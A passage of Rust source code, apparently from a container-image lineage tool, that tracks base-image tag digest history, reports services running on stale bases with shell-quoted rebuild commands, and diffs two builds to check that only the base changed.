//! Base-image freshness: the digest history of each base tag, how far behind each running
//! service is, the daily stale-base report, and the rebuild diff that proves a rebuild changed
//! only its base. Reports are values; the binary renders them (text, Markdown, HTML, Slack).
//!
//! History comes from two kinds of knowledge in the ledger: `BaseSeen` facts (a registry
//! answered "this tag is this digest" at a time) and build records (a build pulled this digest
//! of this tag at a time). Both count, so the history keeps growing from CI builds when no
//! registry is reachable. Nothing here talks to a registry: [`refresh`] asks the binary's
//! [`TagResolver`] for each tag and [`record_refresh`] decides what to write.

use std::collections::{BTreeMap, BTreeSet};

use lineage_model::{
    BaseSeen, BuildRecord, Digest, DigestQuery, EnvName, Identity, ImageRef, Progress, Record,
    Repository, ServiceName, Tag, Timestamp,
};
use lineage_registry::ImageDetails;
use lineage_store::{DigestRole, Store};
use serde::Serialize;

use crate::detect::base_seen;
use crate::placements::shell_quote;
use crate::{Config, Error};

/// A base image tag whose digest moves over time: `name:tag`.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct BaseTag {
    pub name: Repository,
    pub tag: Tag,
}

impl BaseTag {
    /// Parses `NAME:TAG`. A digest is refused: a digest never moves, so it has no history.
    pub fn parse(input: &str) -> Result<BaseTag, Error> {
        let image = ImageRef::parse(input).map_err(|e| e.in_field("base tag"))?;
        let hint = format!("name a base tag, e.g. `{}:3.20`", image.repository);
        if image.digest.is_some() {
            return Err(Error::Invalid(
                format!("base tag `{input}` pins a digest; history is kept per tag"),
                hint,
            ));
        }
        match image.tag {
            Some(tag) => Ok(BaseTag {
                name: image.repository,
                tag,
            }),
            None => Err(Error::Invalid(
                format!("base tag `{input}` has no tag"),
                hint,
            )),
        }
    }

    /// The reference a registry resolves.
    pub fn image_ref(&self) -> ImageRef {
        ImageRef {
            repository: self.name.clone(),
            tag: Some(self.tag.clone()),
            digest: None,
        }
    }
}

impl std::fmt::Display for BaseTag {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}:{}", self.name, self.tag)
    }
}

/// One digest a base tag has pointed at.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct HistoryEntry {
    pub digest: String,
    /// The earliest time a registry or a build showed this digest under the tag.
    pub first_seen: Timestamp,
    /// The latest such time.
    pub last_seen: Timestamp,
    /// The image config's `created` time, when a registry was asked.
    pub created: Option<Timestamp>,
    /// Where it was seen: `registry` and/or `build`.
    pub seen_by: Vec<&'static str>,
}

#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct HistoryReport {
    pub schema: u32,
    pub base: String,
    /// When a registry last answered for this tag; `None` when it never did.
    pub last_refresh: Option<Timestamp>,
    /// Newest first.
    pub digests: Vec<HistoryEntry>,
}

/// What the ledger knows about base tags: per tag, when builds first and last used each
/// digest (the store keeps that per tag, so nothing here reads every build) and every
/// registry answer.
#[derive(Debug, Default)]
pub struct Knowledge {
    /// Per tag, every observation: (digest, time, created, from the registry?).
    observations: BTreeMap<BaseTag, Vec<Observation>>,
}

#[derive(Debug, Clone)]
struct Observation {
    digest: Digest,
    at: Timestamp,
    created: Option<Timestamp>,
    registry: bool,
}

impl Knowledge {
    /// Every tag a recorded build used or a registry was asked about, sorted: what
    /// `lineage base refresh` asks registries about.
    pub fn known_tags(store: &dyn Store) -> Result<Vec<BaseTag>, Error> {
        let mut tags: BTreeSet<BaseTag> = store
            .base_tags()?
            .into_iter()
            .map(|(name, tag)| BaseTag { name, tag })
            .collect();
        for entry in store.facts("base", None)? {
            if let Record::Base(BaseSeen {
                name,
                tag: Some(tag),
                ..
            }) = entry.record
            {
                tags.insert(BaseTag { name, tag });
            }
        }
        Ok(tags.into_iter().collect())
    }

    /// Only `tags`: what one report or one gate decision needs, in indexed reads.
    pub fn load_tags<'a>(
        store: &dyn Store,
        tags: impl IntoIterator<Item = &'a BaseTag>,
    ) -> Result<Knowledge, Error> {
        let mut knowledge = Knowledge::default();
        let mut names = BTreeSet::new();
        for tag in tags {
            if names.insert(tag.name.clone()) {
                for entry in store.facts("base", Some(&tag.name.to_string()))? {
                    knowledge.add_seen(entry.record);
                }
            }
            knowledge.add_uses(store, tag.clone())?;
        }
        Ok(knowledge)
    }

    fn add_seen(&mut self, record: Record) {
        let Record::Base(seen) = record else { return };
        let Some(tag) = seen.tag else { return };
        self.observations
            .entry(BaseTag {
                name: seen.name,
                tag,
            })
            .or_default()
            .push(Observation {
                digest: seen.digest,
                at: seen.seen_at,
                created: seen.created,
                registry: true,
            });
    }

    /// A build's use of a digest counts as seeing it under the tag then
    /// ([`BuildRecord::base_seen_at`]); the first and last use bound them all.
    fn add_uses(&mut self, store: &dyn Store, tag: BaseTag) -> Result<(), Error> {
        let uses = store.base_tag_uses(&tag.name, &tag.tag)?;
        let list = self.observations.entry(tag).or_default();
        for used in uses {
            for at in [used.first_used, used.last_used] {
                list.push(Observation {
                    digest: used.digest.clone(),
                    at,
                    created: None,
                    registry: false,
                });
            }
        }
        Ok(())
    }

    /// The tag's digests, newest (latest first seen) first.
    pub fn history(&self, tag: &BaseTag) -> Vec<HistoryEntry> {
        let mut by_digest: BTreeMap<&Digest, HistoryEntry> = BTreeMap::new();
        for o in self.observations.get(tag).map(Vec::as_slice).unwrap_or(&[]) {
            let e = by_digest.entry(&o.digest).or_insert_with(|| HistoryEntry {
                digest: o.digest.to_string(),
                first_seen: o.at,
                last_seen: o.at,
                created: None,
                seen_by: Vec::new(),
            });
            e.first_seen = e.first_seen.min(o.at);
            e.last_seen = e.last_seen.max(o.at);
            e.created = e.created.or(o.created);
            let source = if o.registry { "registry" } else { "build" };
            if !e.seen_by.contains(&source) {
                e.seen_by.push(source);
                e.seen_by.sort_unstable();
            }
        }
        let mut list: Vec<HistoryEntry> = by_digest.into_values().collect();
        list.sort_by(|a, b| {
            b.first_seen
                .cmp(&a.first_seen)
                .then_with(|| a.digest.cmp(&b.digest))
        });
        list
    }

    /// How fresh `digest` of `tag` is. A newer digest seen by a registry or used by any
    /// build makes it behind; with none, it is current only if a registry was asked, since
    /// builds alone cannot say the tag has not moved.
    pub fn assess(&self, tag: &BaseTag, digest: &Digest) -> Freshness {
        let history = self.history(tag);
        let running = digest.to_string();
        let Some(mine) = history.iter().find(|e| e.digest == running) else {
            // Cannot happen for a recorded build (its bases are part of the history), but a
            // wrong answer is worse than none.
            return Freshness::NotAssessed {
                reason: "the base digest is not in its tag's history".into(),
            };
        };
        let newer: Vec<&HistoryEntry> = history
            .iter()
            .filter(|e| e.first_seen > mine.first_seen)
            .collect();
        match newer.last() {
            Some(oldest_newer) => Freshness::Behind {
                base: tag.to_string(),
                digest: running,
                newest: history[0].digest.clone(),
                since: oldest_newer.first_seen,
                digests_behind: newer.len(),
                source: oldest_newer.seen_by.clone(),
            },
            None => match self.last_refresh(tag) {
                Some(checked_at) => Freshness::Current {
                    base: tag.to_string(),
                    checked_at,
                },
                None => Freshness::NotAssessed {
                    reason: NEVER_REFRESHED.into(),
                },
            },
        }
    }

    /// When a registry last answered for the tag.
    pub fn last_refresh(&self, tag: &BaseTag) -> Option<Timestamp> {
        self.observations
            .get(tag)?
            .iter()
            .filter(|o| o.registry)
            .map(|o| o.at)
            .max()
    }

    /// Whether a registry has ever reported `digest` under `tag`.
    fn registry_knows(&self, tag: &BaseTag, digest: &Digest) -> bool {
        self.observations
            .get(tag)
            .is_some_and(|list| list.iter().any(|o| o.registry && &o.digest == digest))
    }
}

const NEVER_REFRESHED: &str =
    "its base tag was never checked in its registry (run `lineage base refresh`)";

/// How fresh the final-stage base of one build is: the one answer behind `report stale`,
/// the deploy gate's stale-base rule (D012) and the dashboard.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
#[serde(tag = "status", rename_all = "snake_case")]
pub enum Freshness {
    /// A newer digest of the tag is known.
    Behind {
        /// `name:tag`.
        base: String,
        /// The digest the build used.
        digest: String,
        /// The newest digest known.
        newest: String,
        /// When the first newer digest was seen.
        since: Timestamp,
        digests_behind: usize,
        /// Who saw that first newer digest: `build` (a build used it), `registry`, or both.
        source: Vec<&'static str>,
    },
    /// The newest digest known, and a registry confirmed the tag at `checked_at`.
    Current { base: String, checked_at: Timestamp },
    /// Nothing can be said, and why.
    NotAssessed { reason: String },
}

impl Freshness {
    /// `(name:tag@digest, since)` when behind.
    pub fn behind(&self) -> Option<(String, Timestamp)> {
        match self {
            Freshness::Behind {
                base,
                digest,
                since,
                ..
            } => Some((format!("{base}@{digest}"), *since)),
            _ => None,
        }
    }
}

/// The final-stage base of `build` as a tag and digest, or why it has no history.
pub fn final_base_tag(build: &BuildRecord) -> Result<(BaseTag, &Digest), &'static str> {
    let base = build
        .final_base()
        .ok_or("the build records no base image")?;
    match (&base.tag, &base.digest) {
        (Some(tag), Some(digest)) => Ok((
            BaseTag {
                name: base.name.clone(),
                tag: tag.clone(),
            },
            digest,
        )),
        (None, _) => Err("the final-stage base has no tag, so it has no history"),
        (Some(_), None) => Err("the final-stage base has no digest"),
    }
}

/// How fresh `build`'s final-stage base is, reading only that tag's history.
pub fn assess_build(store: &dyn Store, build: &BuildRecord) -> Result<Freshness, Error> {
    Ok(match final_base_tag(build) {
        Ok((tag, digest)) => Knowledge::load_tags(store, [&tag])?.assess(&tag, digest),
        Err(reason) => Freshness::NotAssessed {
            reason: reason.into(),
        },
    })
}

/// `lineage base history NAME:TAG`.
pub fn history(store: &dyn Store, tag: &BaseTag) -> Result<HistoryReport, Error> {
    let knowledge = Knowledge::load_tags(store, [tag])?;
    Ok(HistoryReport {
        schema: 1,
        base: tag.to_string(),
        last_refresh: knowledge.last_refresh(tag),
        digests: knowledge.history(tag),
    })
}

// ---------------------------------------------------------------------------------------------
// Refresh

/// The port to the base tags' registries: reads the image a tag points at now (for the
/// platform the caller chose). An `Err` is that tag's failure, said in the report; it does not
/// stop the other tags.
pub trait TagResolver {
    fn resolve(&self, tag: &BaseTag) -> Result<ImageDetails, String>;
}

#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct RefreshedTag {
    pub base: String,
    /// `new` (a digest not seen under this tag before), `unchanged`, or `failed`.
    pub status: &'static str,
    pub digest: Option<String>,
    /// The newest digest known before this refresh.
    pub previous: Option<String>,
    pub created: Option<Timestamp>,
    /// Why the registry could not answer (`failed` only).
    pub error: Option<String>,
}

#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct RefreshReport {
    pub schema: u32,
    pub at: Timestamp,
    pub tags: Vec<RefreshedTag>,
    /// How many tags could not be resolved.
    pub failed: usize,
}

/// `lineage base refresh`: resolves every base tag the ledger knows ([`Knowledge::known_tags`])
/// through `resolver`, one tag at a time, and records the answers ([`record_refresh`]). A tag
/// that fails is reported as `failed`; the others are still resolved and recorded.
pub fn refresh(
    store: &mut dyn Store,
    resolver: &dyn TagResolver,
    progress: &dyn Progress,
    by: Option<&Identity>,
    now: Timestamp,
) -> Result<RefreshReport, Error> {
    let tags = Knowledge::known_tags(store)?;
    let total = tags.len() as u64;
    let mut answers = Vec::with_capacity(tags.len());
    for tag in tags {
        progress.update("resolving base tags", answers.len() as u64, Some(total));
        let answer = resolver
            .resolve(&tag)
            .map(|image| base_seen(&tag.image_ref(), &image, now));
        answers.push((tag, answer));
    }
    record_refresh(store, answers, now, by)
}

/// Records what the registry answered for each tag (the base as seen, by
/// [`crate::detect::base_seen`]) and reports it per tag.
///
/// Every successful answer is written as a `BaseSeen` observation, not only new digests:
/// without one per refresh the report could not say how fresh its data is, and first-seen
/// times stay exact because history takes the earliest observation of each digest. A failed
/// tag writes nothing; the others are still recorded.
pub fn record_refresh(
    store: &mut dyn Store,
    answers: Vec<(BaseTag, Result<BaseSeen, String>)>,
    now: Timestamp,
    by: Option<&Identity>,
) -> Result<RefreshReport, Error> {
    let knowledge = Knowledge::load_tags(store, answers.iter().map(|(tag, _)| tag))?;
    let mut facts = Vec::new();
    let mut tags = Vec::new();
    for (tag, answer) in answers {
        let previous = knowledge.history(&tag).first().map(|e| e.digest.clone());
        match answer {
            Ok(seen) => {
                let known = knowledge.registry_knows(&tag, &seen.digest)
                    || previous.as_deref() == Some(&seen.digest.to_string());
                tags.push(RefreshedTag {
                    base: tag.to_string(),
                    status: if known { "unchanged" } else { "new" },
                    digest: Some(seen.digest.to_string()),
                    previous,
                    created: seen.created,
                    error: None,
                });
                facts.push(Record::Base(seen));
            }
            Err(error) => tags.push(RefreshedTag {
                base: tag.to_string(),
                status: "failed",
                digest: None,
                previous,
                created: None,
                error: Some(error),
            }),
        }
    }
    if !facts.is_empty() {
        store.record_facts(&facts, now, by)?;
    }
    Ok(RefreshReport {
        schema: 1,
        at: now,
        failed: tags.iter().filter(|t| t.status == "failed").count(),
        tags,
    })
}

// ---------------------------------------------------------------------------------------------
// Staleness

/// Filters and thresholds of `lineage report stale`, already checked.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct StaleOptions {
    pub env: Option<EnvName>,
    /// Leave out rows fewer than this many days behind.
    pub min_days: u32,
    /// Count rows more than this many days behind (the CLI exits 1 when any).
    pub fail_after: Option<u32>,
    /// With `fail_after`: do not fail on running images whose base could not be assessed.
    pub allow_unassessed: bool,
    /// Only placements a runtime source observes running now.
    pub observed_only: bool,
}

/// One service in one environment running on an outdated base.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct StaleRow {
    pub service: String,
    pub env: String,
    /// The running image digest.
    pub digest: String,
    pub image: String,
    /// The base tag, `name:tag`.
    pub base: String,
    /// `final`: the base under the running image; `build`: a build stage's, not in the image.
    pub stage: Stage,
    pub running_base_digest: String,
    pub newest_base_digest: String,
    /// Whole days since the first digest newer than the running one was seen.
    pub days_behind: i64,
    /// How many digests of the tag are newer than the running one.
    pub digests_behind: usize,
    /// When the first newer digest was seen.
    pub behind_since: Timestamp,
    /// Who saw that first newer digest: `build` (a recorded build used it), `registry`
    /// (`lineage base refresh`), or both.
    pub source: Vec<&'static str>,
    pub owner: Option<String>,
    pub backup_owner: Option<String>,
    pub commit: Option<String>,
    /// Rebuilds the same commit on the newest base (see [`rebuild_command`]).
    pub rebuild: Option<String>,
    /// The `FROM` line that moves the Dockerfile to the newest base: `--pull` alone keeps a
    /// base pinned by digest where it is.
    pub from_line: String,
    /// A recorded build of the same commit on the newest base that does not run in this
    /// environment yet: deploy it instead of rebuilding.
    pub rebuilt: Option<String>,
    /// The CI run that built the running digest, to re-run it instead.
    pub ci_url: Option<String>,
    /// Whether a runtime source saw the digest running there; absent without observations.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub observed: Option<crate::observe::ObservedState>,
    /// Set when the running digest was retired: it must not run at all, stale or not.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub retired: Option<crate::lifecycle::RetiredMark>,
}

/// Which stage of a build a base was used in.
#[derive(Debug, Clone, Copy, Serialize, PartialEq, Eq, PartialOrd, Ord)]
#[serde(rename_all = "snake_case")]
pub enum Stage {
    Final,
    Build,
}

/// A running digest whose staleness cannot be computed, and why.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct NotAssessed {
    pub service: String,
    pub env: String,
    pub digest: String,
    pub reason: String,
}

/// How fresh the report's knowledge of one base tag is.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct BaseFreshness {
    pub base: String,
    /// When a registry last answered for the tag; `None`: history from builds only.
    pub last_refresh: Option<Timestamp>,
    pub newest_digest: String,
    pub newest_first_seen: Timestamp,
    pub digests_known: usize,
}

#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct StaleReport {
    pub schema: u32,
    pub generated_at: Timestamp,
    pub env: Option<String>,
    pub min_days: u32,
    pub fail_after: Option<u32>,
    /// Rows more than `fail_after` days behind (0 without `fail_after`).
    pub over_limit: usize,
    /// Whether the report fails its `fail_after` limit: a row over it, or (unless allowed) a
    /// running image that could not be assessed — "not checked" is never "clean".
    pub fails: bool,
    /// Rows left out because they are fewer than `min_days` behind.
    pub below_min_days: usize,
    /// Production first, then most days behind.
    pub rows: Vec<StaleRow>,
    /// Service × environment pairs on the newest known base.
    pub up_to_date: usize,
    pub not_assessed: Vec<NotAssessed>,
    /// Every base tag the assessed services run on.
    pub bases: Vec<BaseFreshness>,
}

/// The command that rebuilds the same commit on the newest base.
///
/// `docker build --pull` re-resolves every `FROM` tag, so the build gets the newest base
/// while the checkout pins the application source; a changed parent invalidates the layer
/// cache above it, so no `--no-cache` is needed. `lineage build diff OLD NEW --expect
/// base-only` then proves nothing else changed. `None` when the commit is unknown.
///
/// Every value from the record is shell-quoted: the command is meant to be copied into a
/// shell, and a Dockerfile path is whatever the pipeline reported.
pub fn rebuild_command(build: &BuildRecord) -> Option<String> {
    let commit = build.commit.as_ref()?;
    let dockerfile = build
        .dockerfile
        .as_ref()
        .map_or("Dockerfile", |d| d.path.as_str());
    Some(format!(
        "git checkout {} && docker build --pull -f {} -t {} .",
        shell_quote(commit.as_str()),
        shell_quote(dockerfile),
        shell_quote(&build.image.to_string())
    ))
}

/// A recorded build of `build`'s service and commit built on `newest` of `base`, that does
/// not run in `env`: the fix is already built, it only needs deploying.
fn rebuilt_on(
    store: &dyn Store,
    build: &BuildRecord,
    base: &BaseTag,
    newest: &str,
    env: &EnvName,
) -> Result<Option<String>, Error> {
    let Some(commit) = &build.commit else {
        return Ok(None);
    };
    // The builds of the same commit, from the commit lookup; without a recorded repository,
    // the service's recent builds.
    let candidates = match &build.source_repo {
        Some(repo) => store.builds_from(&build.service, repo, commit)?,
        None => store.builds_of_service(&build.service, 50)?,
    };
    for candidate in candidates {
        let on_newest = candidate.bases.iter().any(|b| {
            b.name == base.name && b.digest.as_ref().is_some_and(|d| d.to_string() == newest)
        });
        if on_newest && candidate.commit.as_ref() == Some(commit) {
            let here = store
                .deploys_of_digest(&candidate.digest)?
                .iter()
                .any(|d| d.env == *env);
            if !here {
                return Ok(Some(candidate.digest.to_string()));
            }
        }
    }
    Ok(None)
}

/// Every tagged, pinned base of `build` with its stage: the final stage's first.
fn assessable_bases(build: &BuildRecord) -> Vec<(BaseTag, &Digest, Stage)> {
    let mut out = Vec::new();
    if let Ok((tag, digest)) = final_base_tag(build) {
        out.push((tag, digest, Stage::Final));
    }
    let final_base = build.final_base();
    for base in &build.bases {
        if final_base.is_some_and(|f| std::ptr::eq(f, base)) {
            continue;
        }
        if let (Some(tag), Some(digest)) = (&base.tag, &base.digest) {
            let tag = BaseTag {
                name: base.name.clone(),
                tag: tag.clone(),
            };
            // A build stage on the same base as the final one is covered by the final row.
            if !out.iter().any(|(t, d, _)| *t == tag && *d == digest) {
                out.push((tag, digest, Stage::Build));
            }
        }
    }
    out
}

/// `lineage report stale`: one row per (service, environment) whose running digest was built
/// on an older digest of its final-stage base tag than the newest one known, and, below them,
/// one per build-stage base that is behind (it is not in the image, so it never fails the
/// report, but a rebuild should move it too).
pub fn stale(
    store: &dyn Store,
    config: &Config,
    options: &StaleOptions,
    now: Timestamp,
) -> Result<StaleReport, Error> {
    let mut rows = Vec::new();
    let mut not_assessed = Vec::new();
    let mut up_to_date = 0;
    let mut over_limit = 0;
    let mut below_min_days = 0;
    let truth = crate::observe::Truth::load(store, options.env.as_ref(), None, Some(now))?;
    let mut placements = Vec::new();
    for running in store.running(options.env.as_ref(), None)? {
        let observed = truth
            .as_ref()
            .map(|t| t.state(&running.deploy.env, &running.deploy.digest));
        // A placement nobody sees running pages nobody when only the truth is asked for.
        if options.observed_only && !observed.as_ref().is_some_and(|o| o.is_observed()) {
            continue;
        }
        placements.push((running, observed));
    }
    // Only the tags the running builds use are read, each in one indexed lookup.
    let used: BTreeSet<BaseTag> = placements
        .iter()
        .filter_map(|(r, _)| r.build.as_ref())
        .flat_map(|b| assessable_bases(b).into_iter().map(|(tag, _, _)| tag))
        .collect();
    let knowledge = Knowledge::load_tags(store, &used)?;
    // Owners and retirements for every placement in two reads.
    let mut names: Vec<ServiceName> = placements
        .iter()
        .map(|(r, _)| r.deploy.service.clone())
        .collect();
    names.sort();
    names.dedup();
    let services: BTreeMap<ServiceName, lineage_model::Service> = store
        .services_named(&names)?
        .into_iter()
        .map(|s| (s.name.clone(), s))
        .collect();
    let digests: Vec<Digest> = placements
        .iter()
        .map(|(r, _)| r.deploy.digest.clone())
        .collect();
    let retired = crate::lifecycle::retirements(store, &digests)?;
    for (running, observed) in placements {
        let deploy = &running.deploy;
        let skip = |reason: &str| NotAssessed {
            service: deploy.service.to_string(),
            env: deploy.env.to_string(),
            digest: deploy.digest.to_string(),
            reason: reason.to_string(),
        };
        let Some(build) = &running.build else {
            not_assessed.push(skip("no build record for the running digest"));
            continue;
        };
        if let Err(reason) = final_base_tag(build) {
            not_assessed.push(skip(reason));
        }
        for (base_tag, base_digest, stage) in assessable_bases(build) {
            let (newest, since, digests_behind, source) =
                match knowledge.assess(&base_tag, base_digest) {
                    Freshness::Behind {
                        newest,
                        since,
                        digests_behind,
                        source,
                        ..
                    } => (newest, since, digests_behind, source),
                    // Build stages only add rows when behind; the running image is the final's.
                    _ if stage == Stage::Build => continue,
                    Freshness::Current { .. } => {
                        up_to_date += 1;
                        continue;
                    }
                    Freshness::NotAssessed { reason } => {
                        not_assessed.push(skip(&reason));
                        continue;
                    }
                };
            let days_behind = since.days_until(now).max(0);
            if stage == Stage::Final
                && options
                    .fail_after
                    .is_some_and(|n| days_behind > i64::from(n))
            {
                over_limit += 1;
            }
            if days_behind < i64::from(options.min_days) {
                below_min_days += 1;
                continue;
            }
            let service = services.get(&deploy.service);
            rows.push(StaleRow {
                service: deploy.service.to_string(),
                env: deploy.env.to_string(),
                digest: deploy.digest.to_string(),
                image: deploy.image.to_string(),
                base: base_tag.to_string(),
                stage,
                running_base_digest: base_digest.to_string(),
                newest_base_digest: newest.clone(),
                days_behind,
                digests_behind,
                behind_since: since,
                source,
                owner: service
                    .and_then(|s| s.owner.as_ref())
                    .map(|i| i.to_string()),
                backup_owner: service
                    .and_then(|s| s.backup_owner.as_ref())
                    .map(|i| i.to_string()),
                commit: build.commit.as_ref().map(|c| c.to_string()),
                rebuild: rebuild_command(build),
                from_line: format!("FROM {base_tag}@{newest}"),
                rebuilt: rebuilt_on(store, build, &base_tag, &newest, &deploy.env)?,
                ci_url: build.ci.as_ref().and_then(|c| c.url.clone()),
                observed: observed.clone(),
                retired: retired
                    .get(&deploy.digest)
                    .map(crate::lifecycle::RetiredMark::of),
            });
        }
    }
    let rank = |env: &str| {
        EnvName::parse(env)
            .map(|e| config.env_rank(&e))
            .unwrap_or(usize::MAX)
    };
    rows.sort_by(|a, b| {
        a.stage
            .cmp(&b.stage)
            .then(rank(&a.env).cmp(&rank(&b.env)))
            .then(b.days_behind.cmp(&a.days_behind))
            .then_with(|| a.service.cmp(&b.service))
            .then_with(|| a.env.cmp(&b.env))
    });
    not_assessed.sort_by(|a, b| (&a.service, &a.env).cmp(&(&b.service, &b.env)));
    let bases = used
        .iter()
        .filter_map(|tag| {
            let history = knowledge.history(tag);
            let newest = history.first()?;
            Some(BaseFreshness {
                base: tag.to_string(),
                last_refresh: knowledge.last_refresh(tag),
                newest_digest: newest.digest.clone(),
                newest_first_seen: newest.first_seen,
                digests_known: history.len(),
            })
        })
        .collect();
    Ok(StaleReport {
        schema: 1,
        generated_at: now,
        env: options.env.as_ref().map(|e| e.to_string()),
        min_days: options.min_days,
        fail_after: options.fail_after,
        over_limit,
        fails: options.fail_after.is_some()
            && (over_limit > 0 || (!not_assessed.is_empty() && !options.allow_unassessed)),
        below_min_days,
        rows,
        up_to_date,
        not_assessed,
        bases,
    })
}

// ---------------------------------------------------------------------------------------------
// Rebuild diff

/// How a field bears on "did only the base change".
#[derive(Debug, Clone, Copy, Serialize, PartialEq, Eq)]
#[serde(rename_all = "snake_case")]
pub enum FieldKind {
    /// What goes into the image: source, Dockerfile, which base tag.
    Input,
    /// The base digests themselves.
    Base,
    /// Where, how and when it was built; explains a digest, not a content change.
    Context,
}

#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct FieldChange {
    pub field: &'static str,
    pub kind: FieldKind,
    pub old: Option<String>,
    pub new: Option<String>,
    pub changed: bool,
}

#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct BaseOnly {
    /// True when the base digest changed and no input field did.
    pub holds: bool,
    /// Input fields that changed too (or the reason it does not hold).
    pub also_changed: Vec<String>,
}

#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct Reproducibility {
    /// `reproducible`, `not reproducible`, or `not applicable` (the inputs differ or are
    /// not all recorded).
    pub verdict: &'static str,
    /// For `not reproducible`: the recorded context fields that differ and could explain it.
    pub could_explain: Vec<&'static str>,
}

#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct BuildDiff {
    pub schema: u32,
    pub service: String,
    pub old: String,
    pub new: String,
    pub fields: Vec<FieldChange>,
    pub base_only: BaseOnly,
    pub reproducibility: Reproducibility,
}

fn field(
    name: &'static str,
    kind: FieldKind,
    old: Option<String>,
    new: Option<String>,
) -> FieldChange {
    FieldChange {
        field: name,
        kind,
        changed: old != new,
        old,
        new,
    }
}

fn joined(items: impl Iterator<Item = String>) -> Option<String> {
    let v: Vec<String> = items.collect();
    if v.is_empty() {
        None
    } else {
        Some(v.join(", "))
    }
}

/// A build named by digest (or a prefix of one), `REPO@DIGEST` or `REPO:TAG`, as typed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BuildRef {
    /// What the user typed, for messages.
    pub given: String,
    pub by: BuildBy,
}

/// How a [`BuildRef`] finds its build.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BuildBy {
    Digest(DigestQuery),
    Tag(Repository, Tag),
}

impl BuildRef {
    /// Parses `input`, naming `field` (`OLD`, `NEW`) in errors.
    pub fn parse(input: &str, field: &'static str) -> Result<BuildRef, Error> {
        let by = if let Some(parsed) = DigestQuery::parse(input) {
            BuildBy::Digest(parsed.map_err(|e| e.in_field(field))?)
        } else {
            let image = ImageRef::parse(input).map_err(|e| e.in_field(field))?;
            match (image.digest, image.tag) {
                (Some(d), _) => BuildBy::Digest(DigestQuery::Full(d)),
                (None, Some(t)) => BuildBy::Tag(image.repository, t),
                (None, None) => {
                    return Err(Error::Invalid(
                        format!("{field} `{input}` names no build"),
                        format!(
                            "pass a digest or a pinned or tagged image, e.g. `{}@sha256:<64 hex>`",
                            image.repository
                        ),
                    ))
                }
            }
        };
        Ok(BuildRef {
            given: input.to_string(),
            by,
        })
    }
}

/// The recorded build `r` names.
fn find_build(store: &dyn Store, r: &BuildRef) -> Result<BuildRecord, Error> {
    let found = match &r.by {
        BuildBy::Digest(q) => {
            match crate::query::resolve_digest(store, &r.given, q, &[DigestRole::Build])? {
                Some(d) => store.build(&d)?,
                None => None,
            }
        }
        BuildBy::Tag(repository, tag) => store.build_by_tag(repository, tag)?,
    };
    found.ok_or_else(|| {
        Error::Invalid(
            format!("no build recorded for `{}`", r.given),
            "record it first with `lineage build record`, or check the digest (`lineage trace SERVICE` lists builds)".into(),
        )
    })
}

/// `lineage build diff OLD NEW`: finds both builds and compares them ([`diff`]). Two builds
/// of different services are refused: the comparison would mean nothing.
pub fn diff_refs(store: &dyn Store, old: &BuildRef, new: &BuildRef) -> Result<BuildDiff, Error> {
    let old_build = find_build(store, old)?;
    let new_build = find_build(store, new)?;
    if old_build.service != new_build.service {
        return Err(Error::Invalid(
            format!(
                "`{}` is a build of `{}` but `{}` is a build of `{}`",
                old.given, old_build.service, new.given, new_build.service
            ),
            "compare two builds of the same service".into(),
        ));
    }
    Ok(diff(&old_build, &new_build))
}

/// Compares two builds. Inputs are commit, source repository, Dockerfile hash and the base
/// tags per stage; the base digests are the base; builder, platform, CI, tags and times are
/// context. Unknown inputs (a commit or Dockerfile hash not recorded on either side) cannot
/// prove anything, so they make `base-only` fail rather than pass by default.
pub fn diff(old: &BuildRecord, new: &BuildRecord) -> BuildDiff {
    use FieldKind::*;
    let base_tags = |b: &BuildRecord| {
        joined(b.bases.iter().map(|x| match &x.tag {
            Some(t) => format!("{}:{t}", x.name),
            None => x.name.to_string(),
        }))
    };
    let base_digests = |b: &BuildRecord| {
        joined(
            b.bases
                .iter()
                .map(|x| x.digest.as_ref().map_or("?".into(), |d| d.to_string())),
        )
    };
    let dockerfile = |b: &BuildRecord| {
        b.dockerfile
            .as_ref()
            .and_then(|d| d.sha256.as_ref())
            .map(|h| format!("sha256:{h}"))
    };
    let ci = |b: &BuildRecord| {
        b.ci.as_ref().map(|c| {
            let mut s = c.system.clone();
            for part in [&c.job, &c.run_id, &c.url].into_iter().flatten() {
                s.push(' ');
                s.push_str(part);
            }
            s
        })
    };
    let s = |v: Option<&dyn std::fmt::Display>| v.map(|x| x.to_string());
    let fields = vec![
        field(
            "commit",
            Input,
            s(old.commit.as_ref().map(|c| c as _)),
            s(new.commit.as_ref().map(|c| c as _)),
        ),
        field(
            "source_repo",
            Input,
            s(old.source_repo.as_ref().map(|c| c as _)),
            s(new.source_repo.as_ref().map(|c| c as _)),
        ),
        field("dockerfile", Input, dockerfile(old), dockerfile(new)),
        field("base_tags", Input, base_tags(old), base_tags(new)),
        field("base_digests", Base, base_digests(old), base_digests(new)),
        field(
            "builder",
            Context,
            s(old.builder.as_ref().map(|c| c as _)),
            s(new.builder.as_ref().map(|c| c as _)),
        ),
        field(
            "platform",
            Context,
            old.platform.clone(),
            new.platform.clone(),
        ),
        field("ci", Context, ci(old), ci(new)),
        field("git_ref", Context, old.git_ref.clone(), new.git_ref.clone()),
        field(
            "tags",
            Context,
            joined(old.tags.iter().map(Tag::to_string)),
            joined(new.tags.iter().map(Tag::to_string)),
        ),
        field(
            "finished_at",
            Context,
            s(old.finished_at.as_ref().map(|c| c as _)),
            s(new.finished_at.as_ref().map(|c| c as _)),
        ),
